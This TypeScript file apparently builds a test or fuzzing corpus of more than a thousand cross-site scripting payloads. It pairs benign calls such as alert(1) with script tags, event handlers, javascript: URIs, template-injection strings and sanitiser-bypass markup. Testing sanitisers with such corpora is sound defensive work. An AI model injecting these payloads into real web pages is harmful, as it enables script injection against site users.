/**
 * A thousand texts that would run somewhere, were they ever taken for markup, an address or code; made from parts, so that
 * every wrapper meets every way to run something.
 */
const RUNS = [
  'alert(1)', 'alert`1`', 'top.alert(document.domain)', "fetch('/api/v1/x')", "import('data:text/javascript,alert(1)')", 'confirm(1)', 'prompt(1)',
  "eval('alert(1)')", "Function('alert(1)')()", "setTimeout('alert(1)')", 'document.body.remove()', 'location="javascript:alert(1)"',
] as const

const WRAPPERS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`, (run) => `"><script>${run}</script>`, (run) => `'><script>${run}</script>`, (run) => `</textarea><script>${run}</script>`,
  (run) => `</title><script>${run}</script>`, (run) => `--><script>${run}</script>`, (run) => `]]><script>${run}</script>`, (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `<script/x>${run}</script>`, (run) => `<script src="data:text/javascript,${run}"></script>`, (run) => `<script type=module>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`, (run) => `<img src=x onerror=${run}>`, (run) => `<img/src=x/onerror=${run}>`, (run) => `<IMG SRC=x ONERROR=${run}>`,
  (run) => `<img srcset=x onerror="${run}">`, (run) => `<image src=x onerror="${run}">`, (run) => `<svg onload="${run}">`, (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`, (run) => `<svg><animate onbegin="${run}" attributeName=x dur=1s>`, (run) => `<svg><set onbegin="${run}">`,
  (run) => `<svg><a href="javascript:${run}"><text>x</text></a></svg>`, (run) => `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  (run) => `<body onload="${run}">`, (run) => `<body onpageshow="${run}">`, (run) => `<iframe src="javascript:${run}"></iframe>`, (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe onload="${run}"></iframe>`, (run) => `<object data="javascript:${run}"></object>`, (run) => `<embed src="javascript:${run}">`,
  (run) => `<video><source onerror="${run}"></video>`, (run) => `<video src=x onerror="${run}">`, (run) => `<audio src=x onerror="${run}">`, (run) => `<video poster=x onloadstart="${run}" src=x>`,
  (run) => `<input autofocus onfocus="${run}">`, (run) => `<select autofocus onfocus="${run}">`, (run) => `<textarea autofocus onfocus="${run}">`, (run) => `<button autofocus onfocus="${run}">x</button>`,
  (run) => `<details open ontoggle="${run}">`, (run) => `<marquee onstart="${run}">`, (run) => `<div onmouseover="${run}">x</div>`, (run) => `<div onpointerenter="${run}">x</div>`,
  (run) => `<div style="animation-name:x" onanimationstart="${run}">`, (run) => `<style onload="${run}"></style>`, (run) => `<link rel=stylesheet href=x onerror="${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`, (run) => `<base href="javascript:${run}//">`, (run) => `<form action="javascript:${run}"><input type=submit></form>`,
  (run) => `<button formaction="javascript:${run}">x</button>`, (run) => `<isindex action="javascript:${run}">`, (run) => `<a href="javascript:${run}">x</a>`,
  (run) => `<a href=" javascript:${run}">x</a>`, (run) => `<a href="java\tscript:${run}">x</a>`, (run) => `<a href="jav&#x09;ascript:${run}">x</a>`, (run) => `<a href="&#106;avascript:${run}">x</a>`,
  (run) => `<a href="data:text/html,<script>${run}</script>">x</a>`, (run) => `<a href="vbscript:${run}">x</a>`, (run) => `javascript:${run}`, (run) => `JaVaScRiPt:${run}`,
  (run) => `javascript://example.org/%0A${run}`, (run) => `data:text/html,<script>${run}</script>`, (run) => `https://example.org/"onmouseover="${run}`, (run) => `https://example.org/'><script>${run}</script>`,
  (run) => `http://example.org/<svg/onload=${run}>`, (run) => `mailto:x@example.org?body="><script>${run}</script>`, (run) => `{{constructor.constructor('${run}')()}}`, (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`, (run) => `{@html "<script>${run}</script>"}`, (run) => `{${run}}`, (run) => `<svelte:self onload={${run}}/>`, (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`, (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`, (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, (run) => `<xmp><img title="</xmp><img src=x onerror=${run}>">`, (run) => `&lt;script&gt;${run}&lt;/script&gt;`, (run) => `\\u003cscript\\u003e${run}`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`, (run) => `＜script＞${run}＜/script＞`, (run) => `<scr\u0000ipt>${run}</scr\u0000ipt>`, (run) => `\u202e<script>${run}</script>`, (run) => `<!--<img src="--><img src=x onerror=${run}//">`,
]

/** A thousand and more. */
export const PAYLOADS: readonly string[] = WRAPPERS.flatMap((wrap) => RUNS.map(wrap))
